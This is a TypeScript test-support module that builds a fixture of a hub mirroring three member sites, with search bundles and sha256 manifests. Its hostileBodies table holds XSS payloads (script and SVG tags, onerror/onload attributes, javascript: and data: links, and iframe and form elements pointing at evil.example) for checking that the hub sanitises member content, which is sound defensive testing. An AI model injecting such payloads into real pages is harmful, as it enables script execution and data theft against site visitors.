/**
 * tests/fixtures/network-hub: a hub's mirror of three members, as `memoria network pull` leaves it
 * (network/<member>/memoria.json, pull.json, data/memory.<lang>.json). What is committed is text
 * only; the members' Pagefind bundles are made here, at test time, from pages written from the
 * members' own exports and indexed by Memoria's own indexer (src/search/search-bundles.ts), as a
 * member's build makes them. Each manifest then lists its files with their sha256, as a member's
 * build writes it.
 *
 *   node --import ./bin/typescript-hooks.mjs tests/support/network-hub.ts   rewrites the committed
 *   manifests' file lists after an export of the fixture was edited.
 *
 * The table of hostile bodies is added to the Spanish-first member's exports for the tests that
 * build the hub (tests/build/network-hub.test.ts, tests/e2e/network-hub.e2e.ts).
 */
import { createHash } from 'node:crypto';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, relative, resolve } from 'node:path';
import { hastToHtml, markdownToHast } from 'satteri';
import { escapeHtml } from '../../src/lib/escape-html';
import { sections } from '../../src/model/sections';
import { writeSearchBundles } from '../../src/search/search-bundles';
import { uiStrings } from '../../src/translations';

export const fixtureRoot = resolve(import.meta.dirname, '../fixtures/network-hub');

/** The members, as the fixture's memoria.config.ts lists them, with what the tests look for. */
export const members = {
	english: { id: 'river-collective', name: 'River Collective', search: 'merged' },
	spanish: { id: 'colectivo-sur', name: 'Colectivo Sur', search: 'merged' },
	archive: { id: 'radio-lagos', name: 'Radio Lagos Community', search: 'hub-indexed' },
} as const;
export const hubName = 'Andean Learning Hub';

/** A word every member's entries use, in both languages: one query finds all three members. */
export const sharedWord = 'Quillacollo';

/**
 * Bodies that try to run script or load something from elsewhere, each added to the Spanish-first
 * member as a learning of its own (`aprendizajes/hostil-<n>/`). `absent`: what the copy's body may not
 * hold as markup; `shown`: text the copy shows instead.
 */
export const hostileBodies: { name: string; body: string; absent: string[]; shown?: string }[] = [
	{ name: 'a script element', body: 'Antes <script>window.__pwned="script"</script> después.', absent: ['<script'] },
	{ name: 'an event attribute', body: 'Una foto <img src="x" onerror="window.__pwned=\'onerror\'">.', absent: ['onerror'] },
	{ name: 'a javascript: link', body: '[Haz clic](javascript:window.__pwned="link") aquí.', absent: ['javascript:'], shown: 'Haz clic' },
	{ name: 'a raw iframe', body: '<iframe src="https://evil.example/frame"></iframe>\n\nTexto.', absent: ['<iframe', 'evil.example'] },
	{
		name: 'an image from elsewhere',
		body: '![Un píxel de rastreo](https://tracker.example/pixel.gif)',
		absent: ['tracker.example', 'pixel.gif'],
		shown: 'Un píxel de rastreo',
	},
	{
		name: 'data: URLs',
		body: '[Abrir](data:text/html;base64,PHNjcmlwdD4=) ![Logo](data:image/png;base64,iVBORw0KGgo=)',
		absent: ['data:text', 'data:image'],
		shown: 'Abrir',
	},
	{
		name: 'style and object',
		body: '<style>body{display:none}</style>\n\n<object data="https://evil.example/x.swf"></object>',
		absent: ['<style>body', '<object'],
	},
	{
		name: 'an SVG with a script',
		body: '<svg onload="window.__pwned=\'svg\'"><script>window.__pwned="svg"</script></svg>',
		absent: ['<svg', 'onload', '<script'],
	},
	{
		name: 'a form posting elsewhere',
		body: '<form action="https://evil.example/steal"><input name="x"><button>Enviar</button></form>',
		absent: ['<form', 'steal', '<input', '<button'],
	},
	{ name: 'a link that breaks its attribute', body: '[x](https://ok.example/"onmouseover="window.__pwned=1)', absent: ['"onmouseover'] },
];
/** A title and a summary that are HTML: shown as text. */
export const hostileTitle = '<img src=x onerror="window.__pwned=\'title\'">Título hostil';

const hash = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');

interface Listed {
	path: string;
	sha256: string;
	bytes: number;
}
const listed = (folder: string, path: string): Listed => {
	const bytes = readFileSync(join(folder, path));
	return { path, sha256: hash(bytes), bytes: bytes.length };
};
const filesUnder = (folder: string, under: string): string[] =>
	readdirSync(join(folder, under), { recursive: true })
		.map(String)
		.filter((path) => statSync(join(folder, under, path)).isFile())
		.map((path) => `${under}${path.split('\\').join('/')}`)
		.sort();

type Json = Record<string, unknown>;
const readJson = (path: string) => JSON.parse(readFileSync(path, 'utf8')) as Json;
const writeJson = (path: string, data: unknown) => writeFileSync(path, `${JSON.stringify(data, null, 1)}\n`);

/** Rewrites a member's manifest: its exports and search bundles, each file with its size and sha256. */
export function refreshManifest(folder: string): void {
	const manifest = readJson(join(folder, 'memoria.json'));
	manifest.exports = readdirSync(join(folder, 'data'))
		.filter((name) => /^memory\.[a-z-]+\.json$/i.test(name))
		.sort()
		.map((name) => {
			const data = readJson(join(folder, 'data', name));
			const entries = sections.reduce((sum, s) => sum + ((data[s] as unknown[] | undefined)?.length ?? 0), 0);
			return { ...listed(folder, `data/${name}`), language: data.language, entries };
		});
	manifest.search = (['current', 'retired'] as const).flatMap((kind) => {
		const path = kind === 'current' ? 'pagefind/' : 'pagefind-retired/';
		// Each file by its path inside the bundle's folder, as a member's build lists it (src/network/format.ts).
		return existsSync(join(folder, path))
			? [{ kind, path, files: filesUnder(folder, path).map((file) => ({ ...listed(folder, file), path: file.slice(path.length) })) }]
			: [];
	});
	writeJson(join(folder, 'memoria.json'), manifest);
}

/** A member's pages as its own build would have them for Pagefind: text in <main>, type and themes as Pagefind reads them. */
function writeMemberPages(folder: string, pages: string): void {
	const manifest = readJson(join(folder, 'memoria.json')) as { defaultLanguage: string };
	for (const name of readdirSync(join(folder, 'data'))) {
		const memory = readJson(join(folder, 'data', name));
		const language = memory.language as string;
		const prefix = language === manifest.defaultLanguage ? '' : `${language}/`;
		const strings = (uiStrings[language] ?? uiStrings.en!) as Record<string, string>;
		for (const section of sections) {
			for (const entry of (memory[section] as Json[] | undefined) ?? []) {
				const body = hastToHtml(markdownToHast(String(entry.body ?? '')));
				const themes = ((entry.themes as { label: string }[] | undefined) ?? []).map(
					(t) => `<span data-pagefind-filter="theme:${escapeHtml(t.label)}"></span>`
				);
				const html = `<!doctype html><html lang="${language}"><head><meta charset="utf-8"><title>${escapeHtml(String(entry.title))}</title></head><body><main data-pagefind-body><h1>${escapeHtml(String(entry.title))}</h1><p>${escapeHtml(String(entry.summary ?? ''))}</p>${body}</main><div hidden><span data-pagefind-meta="type:${strings[`memoria.type.${section}`]}"></span>${themes.join('')}</div></body></html>`;
				const file = join(pages, `${prefix}${entry.path}`, 'index.html');
				mkdirSync(dirname(file), { recursive: true });
				writeFileSync(file, html);
			}
		}
	}
}

/** Makes a member's Pagefind bundles into its mirror folder, as its own build would publish them. */
export async function writeMemberBundles(folder: string): Promise<void> {
	const pages = mkdtempSync(join(tmpdir(), 'memoria-member-pages-'));
	try {
		writeMemberPages(folder, pages);
		await writeSearchBundles(pages);
		for (const bundle of ['pagefind', 'pagefind-retired']) cpSync(join(pages, bundle), join(folder, bundle), { recursive: true });
	} finally {
		rmSync(pages, { recursive: true, force: true });
	}
}

/** Adds the hostile bodies (and a hostile title) to the Spanish-first member's exports, in both its languages. */
export function addHostileEntries(folder: string): void {
	for (const language of ['es', 'en']) {
		const file = join(folder, 'data', `memory.${language}.json`);
		const memory = readJson(file);
		const prefix = language === 'es' ? '' : 'en/';
		const words = language === 'es' ? 'aprendizajes' : 'learnings';
		const hostile = hostileBodies.map((item, index) => ({
			id: `hostil-${index + 1}`,
			type: 'learnings',
			url: `https://sur.example.org/memoria/${prefix}${words}/hostil-${index + 1}/`,
			path: `${words}/hostil-${index + 1}/`,
			language: 'es',
			translated: language === 'es',
			title: index === 0 ? hostileTitle : `Cuerpo hostil ${index + 1}`,
			summary: index === 0 ? '<script>window.__pwned="summary"</script>' : `Prueba: ${item.name}.`,
			date: '2025-01-01',
			lesson: '<b onmouseover="window.__pwned=1">Una lección</b>',
			themes: [],
			body: item.body,
		}));
		memory.learnings = [...(memory.learnings as unknown[]), ...hostile];
		writeJson(file, memory);
	}
}

/** The edit for copyFixture: hostile entries, the merged members' bundles, and every manifest's file list. */
export async function finishMirror(root: string): Promise<void> {
	const mirror = join(root, 'network');
	addHostileEntries(join(mirror, members.spanish.id));
	for (const member of [members.english, members.spanish]) await writeMemberBundles(join(mirror, member.id));
	for (const member of Object.values(members)) refreshManifest(join(mirror, member.id));
}

// Run as a script: the committed manifests, after an export was edited.
if (process.argv[1] && relative(process.argv[1], import.meta.filename) === '') {
	for (const member of Object.values(members)) refreshManifest(join(fixtureRoot, 'network', member.id));
}
